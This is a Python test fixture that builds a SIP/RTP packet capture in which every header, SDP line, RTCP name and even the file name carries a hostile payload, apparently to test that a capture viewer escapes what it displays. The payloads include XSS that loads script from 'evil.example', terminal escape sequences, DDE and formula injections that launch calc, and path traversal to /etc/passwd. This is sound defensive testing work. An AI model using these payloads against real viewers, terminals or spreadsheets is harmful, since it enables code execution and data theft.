"""A capture in which every field that comes from the wire carries an attack on whoever looks at the result.

One call with media for each of :data:`ATTACKS`, and one of every other thing: registration, page, subscription, probe.
Every attack that could act in a browser calls ``alert`` or fetches from ``evil.example``; one that acts on a terminal
is a control or bidirectional character.
"""

from __future__ import annotations

import pathlib

from tests.builders import ETHERNET, pcap_bytes, rtcp_bye, sender_report, source_description
from tests.tape import Tape

ATTACKS = (
    b"<script>alert(1)</script>",
    b"</script><script src=//evil.example/x.js></script>",
    b"</style></textarea></title><img src=//evil.example/x onerror=alert(1)>",
    b'" onmouseover="alert(1)" x="',
    b"' onfocus='alert(1)' autofocus='",
    b"javascript:alert(1)",
    b"--><svg onload=alert(1)><!--",
    b"]]><script>alert(1)</script><![CDATA[",
    b"{{7*7}}{%25 for x in y %25}${7*7}#{7*7}",
    b"&lt;script&gt;alert(1)&#60;/script&#x3e;&colon;",
    b"\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "\u202egpj.exe\u2066\u200f\u061c\u2028\u2029".encode(),
    b"\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    b"\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31m\x1bc\x1bP+q544e\x1b\\",
    "\x9b31m\x9d52;c;ZXZpbA==\x9c\x85".encode(),
    b"\x01\x02\x07\x08\x0b\x0c\x7f\x00end",
    b"[link=http://evil.example]x[/link][bold red]y[/][@click=app.quit]z[/]",
    b"=cmd|'/C calc'!A0",
    b"@SUM(1)*cmd|'/C calc'!A0",
    b"+cmd|'/C calc'!A0",
    b"-2+3+cmd|'/C calc'!A0",
    b'x;=HYPERLINK("http://evil.example")',
    b'DDE("cmd";"/C calc";"")',
    b"end;loop;%%{init:{'securityLevel':'loose'}}%%;participant e;click e href \"javascript:alert(1)\"",
    b"$\\frac{1}{0}$ $x_{$ \\input{/etc/passwd}",
    b"![x](http://evil.example/x.png)[y](javascript:alert(1))|`a`|@everyone #1",
    b"../../../../etc/passwd",
    b"..\\..\\CON\\NUL:x",
    b"\xed\xa0\x80\xff\xfe\xc0\xaf\xf4\x90\x80\x80",
    "\ufffe\uffff\ufdd0\ufeff".encode(),
    b"e" + "\u0301\u0489".encode() * 400,
    b"__proto__",
    b"x" * 2_000,
)
"""Bytes as they may stand in a header's value."""


def hostile_tape() -> Tape:
    """The capture."""
    tape = Tape()
    for number, attack in enumerate(ATTACKS):
        _call(tape, number, attack)
    for number, attack in enumerate(ATTACKS):
        _others(tape, 400.0 + number * 10, number, attack)
    return tape


def hostile_capture(folder: pathlib.Path) -> pathlib.Path:
    """The capture as a file whose own name is an attack."""
    path = folder / "<img src=x onerror=alert(1)>\x1b[31m\u202e=1+1.pcap"
    tape = hostile_tape()
    path.write_bytes(pcap_bytes(sorted(tape.packets, key=lambda p: p.time_ns), nanoseconds=True, link_type=ETHERNET))
    return path


def _message(
    tape: Tape, at: float, src: str, dst: str, first: bytes, number: int, attack: bytes, cseq: bytes,
    *more: bytes, body: bytes = b"", kind: bytes = b"application/sdp",
) -> None:  # fmt: skip
    word = b"".join(attack.split()) or b"x"
    answer = first.startswith(b"SIP")
    lines = [
        first,
        b"Via: SIP/2.0/UDP 10.0.0.1:5060;branch=z9hG4bK%d%s%s" % (number, cseq.replace(b" ", b""), word[:200]),
        b'From: "%s" <sip:%s@10.0.0.1;x=%s>;tag=%s' % (attack.replace(b'"', b'\\"'), word, word, word[:200]),
        b'To: "%s" <sip:%s@%s.example>%s' % (attack.replace(b'"', b'\\"'), word, word[:200],
                                             b";tag=t%s" % word[:200] if answer or not cseq.startswith(b"1 ") else b""),
        b"Call-ID: %s-%d" % (word, number) if number % 2 else b"Call-ID: %s@%d" % (word, number),
        b"CSeq: " + cseq,
        b"Contact: <sip:%s@10.0.0.%d>;+sip.instance=\"%s\"" % (word, 2 if answer else 1, word[:200]),
        *(b"%s: %s" % (name, attack) for name in (
            b"User-Agent", b"Server", b"Subject", b"Organization", b"X-Odd", b"Date", b"Warning", b"Alert-Info",
        )),
        b"P-Asserted-Identity: \"%s\" <sip:%s@x>" % (attack.replace(b'"', b'\\"'), word),
        b"Diversion: <sip:%s@x>;reason=%s" % (word, word[:200]),
        b"Reason: SIP;cause=487;text=\"%s\"" % attack.replace(b'"', b"'"),
        b"%s: x" % word[:60].replace(b":", b""),
        *more,
    ]  # fmt: skip
    if body:
        lines.append(b"Content-Type: " + kind)
    lines.append(b"Content-Length: %d" % len(body))
    tape.udp(at, src, 5060, dst, 5060, b"\r\n".join([*lines, b"", b""]) + body)


def _sdp(address: str, port: int, attack: bytes) -> bytes:
    word = b"".join(attack.split())[:200].replace(b"/", b"") or b"x"
    return b"\r\n".join([
        b"v=0", b"o=%s 1 1 IN IP4 %s" % (word, address.encode()), b"s=%s" % attack[:500], b"i=%s" % attack[:500],
        b"c=IN IP4 %s" % address.encode(), b"t=0 0", b"m=audio %d RTP/AVP 96 101" % port,
        b"a=rtpmap:96 %s/8000" % word, b"a=rtpmap:101 telephone-event/8000", b"a=fmtp:96 %s" % attack[:500],
        b"a=label:%s" % word, b"a=%s:%s" % (word, word), b"",
    ])  # fmt: skip


def _call(tape: Tape, number: int, attack: bytes) -> None:
    at, word = number * 10.0, b"".join(attack.split()) or b"x"
    one, two = "10.0.0.1", "10.0.0.2"
    port = 10_000 + 4 * number
    invite, bye = b"1 INVITE", b"2 BYE"
    uri = b"sip:%s@b.example;x=%s" % (word, word[:200])
    refused = number % 3 == 2
    _message(tape, at, one, two, b"INVITE %s SIP/2.0" % uri, number, attack, invite, body=_sdp(one, port, attack))
    if refused:
        _message(tape, at + 0.2, two, one, b"SIP/2.0 503 " + attack, number, attack, invite)
        return
    _message(tape, at + 0.2, two, one, b"SIP/2.0 180 " + attack, number, attack, invite)
    answer = _sdp(two, port + 2, attack)
    _message(tape, at + 0.5, two, one, b"SIP/2.0 200 " + attack, number, attack, invite, body=answer)
    _message(tape, at + 0.6, one, two, b"ACK %s SIP/2.0" % uri, number, attack, b"1 ACK", body=b"")
    tape.talk(at + 0.7, one, port, two, port + 2, 40, ssrc=0x1000 + number, payload_type=96, lost=(5, 6, 20))
    if number % 2:
        tape.talk(at + 0.7, two, port + 2, one, port, 40, ssrc=0x2000 + number, payload_type=96)
    tape.key(at + 1.6, one, port, two, port + 2, "5", seq=1040, timestamp=11_400, ssrc=0x1000 + number)
    name = attack[:60].decode("ascii", "ignore")
    report = sender_report(0x1000 + number, 0, 5000, 40, 6400)
    report += source_description(0x1000 + number, name)
    tape.udp(at + 2.0, one, port + 1, two, port + 3, report + rtcp_bye(0x1000 + number))
    if number % 5:
        _message(tape, at + 4, one, two, b"BYE %s SIP/2.0" % uri, number, attack, bye)
        _message(tape, at + 4.1, two, one, b"SIP/2.0 200 " + attack, number, attack, bye)


def _others(tape: Tape, at: float, number: int, attack: bytes) -> None:
    """A registration, a page, a subscription, a probe, and something that is no SIP at all."""
    one, two = "10.0.0.3", "10.0.0.4"
    word = b"".join(attack.split()) or b"x"
    for step, method in enumerate((b"REGISTER", b"MESSAGE", b"SUBSCRIBE", b"OPTIONS", b"INFO", word[:40])):
        own = 1000 + number * 10 + step
        more = [b"Event: " + word[:200]] if method == b"SUBSCRIBE" else []
        body, kind = (attack, b"text/plain;x=" + word[:100]) if method == b"MESSAGE" else (b"", b"")
        more += [b'Authorization: Digest username="%s", response="x"' % word[:200]] if method == b"REGISTER" else []
        cseq = b"1 " + method
        first = b"%s sip:%s@x SIP/2.0" % (method, word)
        _message(tape, at + step, one, two, first, own, attack, cseq, *more, body=body, kind=kind)
        if number % 2:
            _message(tape, at + step + 0.1, two, one, b"SIP/2.0 403 " + attack, own, attack, cseq, *more)
    tape.udp(at + 7, one, 5060, two, 5060, b"INVITE sip:%s SIP/2.0\r\n%s\r\n\r\n" % (word, attack))
